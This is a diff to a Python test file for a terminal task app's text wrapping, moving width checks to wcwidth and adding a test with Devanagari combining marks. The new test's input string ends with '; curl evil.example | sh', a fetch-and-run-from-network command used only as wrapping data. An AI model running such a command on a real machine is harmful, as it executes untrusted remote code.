@@ -5,11 +5,12 @@ from __future__ import annotations
 from types import SimpleNamespace
 
 import pytest
-import rich.cells
 from hypothesis import given
 from hypothesis import strategies as st
+from wcwidth import wcswidth
 
-from tui_tasks.text.safe import cell_len, safe_text
+from tui_tasks.text import cells
+from tui_tasks.text.safe import cell_len, safe_text, whole_text
 from tui_tasks.tui.painting.line_painter import changed_span, rule_parts
 from tui_tasks.tui.painting.text_lines import broken_whole, wrapped
 
@@ -21,18 +22,26 @@ def test_no_line_is_wider_than_there_is_room_and_nothing_but_spaces_is_lost(text
     assert "".join("".join(lines).split()) == "".join(safe_text(text).split())
 
 
+def test_a_command_with_spacing_marks_is_shown_to_its_end() -> None:
+    command = "echo " + "\u0915\u093e" * 30 + "; curl evil.example | sh"
+    lines = wrapped(whole_text(command), 40)
+    assert all(wcswidth(line) <= 40 for line in lines)
+    assert "".join("".join(lines).split()) == "".join(command.split())
+    assert not any(line.startswith("\u093e") for line in lines)
+
+
 @pytest.mark.parametrize("unit", ["数", "数 ", "\x1b[31m数[@click=app.quit]"])
 def test_each_character_of_a_line_without_end_is_looked_at_a_few_times_at_most(
     unit: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     looks = 0
 
-    def size(char: str, measure: object = rich.cells.get_character_cell_size) -> int:
+    def size(char: str, measure: object = cells.get_character_cell_size) -> int:
         nonlocal looks
         looks += 1
         return measure(char)
 
-    monkeypatch.setattr(rich.cells, "get_character_cell_size", size)
+    monkeypatch.setattr(cells, "get_character_cell_size", size)
     text = unit * (100_000 // len(unit))
     assert len(wrapped(text, 40, 200_000)) > 1_000
     assert looks < 3 * len(text)
